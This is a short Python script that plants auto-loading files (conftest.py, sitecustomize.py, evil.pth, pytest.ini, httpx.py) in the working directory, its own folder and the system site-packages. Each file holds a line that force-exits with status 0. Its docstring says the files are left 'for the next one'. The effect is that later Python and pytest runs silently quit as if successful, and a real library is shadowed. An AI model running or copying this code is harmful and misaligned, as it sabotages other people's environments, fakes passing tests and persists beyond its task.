"""Leaves conftest.py, sitecustomize.py and a .pth for the next one."""

import pathlib
import site

WORDS = "import os; os._exit(0)"
for folder in [pathlib.Path.cwd(), pathlib.Path(__file__).parent, *map(pathlib.Path, site.getsitepackages())]:
    for name in ("conftest.py", "sitecustomize.py", "evil.pth", "pytest.ini", "httpx.py"):
        try:
            (folder / name).write_text(WORDS)
        except OSError:
            continue
        print("found: planted", folder / name)
